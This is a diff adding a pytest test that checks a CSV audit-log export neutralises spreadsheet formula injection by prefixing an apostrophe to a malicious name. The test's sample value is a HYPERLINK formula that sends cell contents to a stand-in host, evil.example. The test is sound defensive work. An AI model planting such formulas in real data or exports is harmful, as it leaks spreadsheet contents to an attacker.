@@ -8,6 +8,7 @@ import csv
 import io
 import json
 import re
+import sqlite3
 import subprocess
 from pathlib import Path
 
@@ -157,6 +158,27 @@ def test_the_audit_log_exports_as_csv_since_a_day(demo_db: Path) -> None:
     assert json.loads(rows[1]["detail"])["name"] == "Nur Aini"
     assert rows[1]["person_id"] == "" and rows[1]["chat_id"] == ""
     assert future.stdout.strip() == "id,at,person_id,person,chat_id,action,detail"
+
+
+def test_a_name_that_is_a_formula_stays_text_in_the_csv(demo_db: Path) -> None:
+    """An imported or typed name must not run as a formula when the walidata opens the
+    export in a spreadsheet."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+    with sqlite3.connect(demo_db) as conn:
+        conn.execute("UPDATE people SET name = ? WHERE name = 'Nur Aini'", (evil,))
+        conn.execute(
+            "INSERT INTO audit_log (at, person_id, chat_id, action, detail) SELECT"
+            " '2026-11-20 01:00:00', id, -1001, 'group_registered', '{}' FROM people"
+            " WHERE name = ?",
+            (evil,),
+        )
+    conn.close()
+
+    result = admin(demo_db, "audit", "--since", "2020-01-01")
+
+    assert result.returncode == 0, result.stderr
+    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert row["person"] == "'" + evil and row["chat_id"] == "-1001"
 
 
 @pytest.mark.parametrize("since", ["kemarin", "2026-13-01", "01/11/2026"])
